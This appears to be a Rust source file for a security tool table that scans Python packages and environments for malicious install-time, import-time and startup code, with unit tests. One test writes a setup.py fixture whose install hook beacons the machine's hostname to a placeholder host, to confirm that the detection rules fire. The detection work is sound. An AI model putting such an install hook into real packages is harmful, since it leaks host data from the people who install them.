//! `python_install_findings`: one row per rule hit in a file that runs at
//! install, import or interpreter start: what a malicious package *does*.
//!
//! Without a constraint it scans every environment `python_environments`
//! finds (site-level `.pth`, sitecustomize/usercustomize in site and
//! standard-library directories, every distribution's code, unrecorded
//! files, shadowing console scripts and import names).
//! `WHERE environment = ...` scans one environment; `WHERE path = ...` scans
//! on demand whatever is there: a file, a source tree, an sdist
//! (`.tar.gz`, `.tar.bz2`, `.tar`, `.zip`) or wheel (read in memory, never
//! extracted), console scripts declared in its `setup.cfg`,
//! `pyproject.toml`, `setup.py` or `entry_points.txt` included. Results are
//! cached per file version.

use std::path::Path;
use std::sync::Arc;

use crate::findings::target::{Scanner, TargetScan};
use crate::findings::{site, Located};
use crate::host::{path_from_column, path_to_column, Host};
use crate::python;
use crate::table::{Column, QueryContext, Row, Stage, Table, TableError};

const COLUMNS: &[Column] = &[
    Column::text("path", "The file with the hit; for WHERE path = an archive or tree, that path").index(),
    Column::text("environment", "Environment (host path) the file belongs to").additional(),
    Column::text("package", "Distribution that owns (RECORD) or ships the file"),
    Column::text("rule_id", "Rule that fired (see extension/findings/rules.toml)"),
    Column::text("category", "credential_access, exfiltration, download_execute, obfuscation, process, persistence, gpu_tampering, crypto_mining, install_hook, startup, tampering, shadowing, archive"),
    Column::text("severity", "info, low, medium, high or critical, after weighing where the code runs"),
    Column::integer("line", "1-based line of the hit (empty for file-level findings)"),
    Column::text("evidence", "Short excerpt of the line, secret values redacted"),
    Column::text("file_sha256", "SHA-256 of the file (or archive member)"),
    Column::text("description", "One line: why the rule matters"),
    Column::text("member", "File inside the archive or source tree given as path"),
    Column::text("role", "Where the code runs: install, startup, import, entry_point, config, module, peripheral"),
    Column::text("status", "ok, or why a file could not be scanned (then rule_id is empty)"),
];

/// The `python_install_findings` table.
pub struct PythonInstallFindings {
    host: Arc<Host>,
    /// Made on the first query: compiling the rules costs a few MB, which
    /// a process that never asks this table (every `squatch query` of
    /// another table, an extension whose schedule has no findings query)
    /// should not pay.
    scanner: std::sync::OnceLock<Scanner>,
    persist: Option<Arc<crate::persist::PersistentCache>>,
    /// Distributions shared with the other tables (see
    /// [`Scanner::with_distribution_cache`]).
    dists: Option<Arc<crate::python::DistributionCache>>,
    /// Most site directories scanned at once; `None`: the scanner's default.
    threads: Option<usize>,
}

impl PythonInstallFindings {
    /// The table over `host`, with its own per-file cache.
    pub fn new(host: Arc<Host>) -> Self {
        PythonInstallFindings {
            host,
            scanner: std::sync::OnceLock::new(),
            persist: None,
            dists: None,
            threads: None,
        }
    }

    /// Scans at most `threads` site directories at once (`None`: the
    /// scanner's default, see [`Scanner::with_threads`]).
    pub fn with_scan_threads(mut self, threads: Option<usize>) -> Self {
        self.threads = threads;
        self.scanner = std::sync::OnceLock::new();
        self
    }

    /// Reads distributions through `cache`, shared with the other tables
    /// (one parsed copy of each in the process).
    pub fn with_distribution_cache(mut self, cache: Arc<crate::python::DistributionCache>) -> Self {
        self.dists = Some(cache);
        self.scanner = std::sync::OnceLock::new();
        self
    }

    /// Also keeps file scans between processes in `cache` (see
    /// [`crate::persist`]).
    pub fn with_persistent_cache(
        mut self,
        cache: Option<Arc<crate::persist::PersistentCache>>,
    ) -> Self {
        self.persist = cache;
        self.scanner = std::sync::OnceLock::new();
        self
    }

    /// The scanner (and its caches) behind the table; the rules are
    /// compiled on the first call.
    pub fn scanner(&self) -> &Scanner {
        self.scanner.get_or_init(|| {
            let scanner = Scanner::default()
                .with_persistent_cache(self.persist.clone())
                .with_distribution_cache(self.dists.clone());
            match self.threads {
                Some(n) => scanner.with_threads(n),
                None => scanner,
            }
        })
    }
}

fn rows(scan: TargetScan, path_override: Option<&str>) -> Vec<Row> {
    let mut out = Vec::with_capacity(scan.findings.len() + scan.problems.len());
    let path_text = |p: &Path| match path_override {
        Some(s) => s.to_string(),
        None => path_to_column(p),
    };
    for Located {
        path,
        member,
        environment,
        package,
        file_sha256,
        finding: f,
    } in scan.findings
    {
        let mut row = Row::new();
        row.set("path", path_text(&path))
            .opt("environment", environment.map(|e| path_to_column(&e)))
            .opt("package", package)
            .set("rule_id", f.rule_id)
            .set("category", f.category.as_str())
            .set("severity", f.severity.as_str())
            .opt("line", f.line.map(|l| l.to_string()))
            .set("evidence", f.evidence)
            .opt("file_sha256", file_sha256)
            .set("description", f.description)
            .set("member", member)
            .set("role", f.role.as_str())
            .set("status", "ok");
        out.push(row);
    }
    for p in scan.problems {
        let mut row = Row::new();
        row.set("path", path_text(&p.path))
            .set("member", p.member)
            .set("rule_id", "")
            .set("status", p.message);
        out.push(row);
    }
    out
}

impl Table for PythonInstallFindings {
    fn name(&self) -> &'static str {
        "python_install_findings"
    }

    fn description(&self) -> &'static str {
        "Rule hits in Python code that runs at install, import or interpreter start (.pth, sitecustomize, setup.py, package code); WHERE path = scans a file, tree, sdist or wheel on demand"
    }

    fn stage(&self) -> Stage {
        Stage::Evaluation
    }

    fn columns(&self) -> &'static [Column] {
        COLUMNS
    }

    fn generate(&self, ctx: &QueryContext) -> Result<Vec<Row>, TableError> {
        let scanner = self.scanner();
        scanner.begin_query();
        let out = self.generate_with(scanner, ctx);
        scanner.end_query();
        out
    }
}

impl PythonInstallFindings {
    fn generate_with(&self, scanner: &Scanner, ctx: &QueryContext) -> Result<Vec<Row>, TableError> {
        if let Some(paths) = ctx.equals("path") {
            let mut out = Vec::new();
            for p in paths {
                let scan = scanner.scan_target(&self.host, &path_from_column(&p));
                out.extend(rows(scan, Some(&p)));
            }
            return Ok(out);
        }
        let envs = match ctx.equals("environment") {
            Some(list) => list
                .iter()
                .filter_map(|e| python::environment_at(&self.host, &path_from_column(e)))
                .collect(),
            None => python::discover_environments(&self.host),
        };
        let scan = site::scan_environments(&self.host, scanner, &envs);
        let mut out = rows(scan, None);
        // `WHERE environment = X` must see X verbatim in the rows it keeps.
        if let Some(list) = ctx.equals("environment") {
            for row in &mut out {
                if let Some(env) = row.get("environment").map(str::to_string) {
                    if let Some(given) = list
                        .iter()
                        .find(|g| path_to_column(&Host::normalize(&path_from_column(g))) == env)
                    {
                        row.set("environment", given.clone());
                    }
                }
            }
        }
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::table::Operator;

    #[test]
    fn scan_threads_reach_the_scanner() {
        let host = Arc::new(Host::new("/nonexistent-root"));
        let one = PythonInstallFindings::new(host.clone()).with_scan_threads(Some(1));
        assert_eq!(one.scanner().threads, 1);
        let three = PythonInstallFindings::new(host.clone()).with_scan_threads(Some(3));
        assert_eq!(three.scanner().threads, 3);
        let default = PythonInstallFindings::new(host).with_scan_threads(None);
        assert_eq!(default.scanner().threads, Scanner::default().threads);
    }

    #[test]
    fn on_demand_setup_py_with_hook_and_beacon() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("setup.py"),
            "from setuptools.command.install import install\nimport urllib.request, socket\nclass Post(install):\n    def run(self):\n        urllib.request.urlopen('https://collector.invalid/?h=' + socket.gethostname())\n        install.run(self)\n",
        )
        .unwrap();
        let table = PythonInstallFindings::new(Arc::new(Host::new(dir.path())));
        let rows = table
            .generate(&QueryContext::all().with("path", Operator::Equals, "/setup.py"))
            .unwrap();
        assert!(rows.iter().all(|r| r.get("path") == Some("/setup.py")));
        assert!(rows
            .iter()
            .any(|r| r.get("rule_id") == Some("combo-install-hook-network")
                && r.get("severity") == Some("medium")));
        assert!(rows
            .iter()
            .any(|r| r.get("rule_id") == Some("combo-host-beacon")));
    }

    #[test]
    fn a_missing_path_is_a_row_not_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let table = PythonInstallFindings::new(Arc::new(Host::new(dir.path())));
        let rows = table
            .generate(&QueryContext::all().with("path", Operator::Equals, "/nope.tar.gz"))
            .unwrap();
        assert_eq!(rows.len(), 1);
        assert!(
            rows[0].get("status").unwrap().contains("No such file"),
            "{:?}",
            rows[0]
        );
    }
}
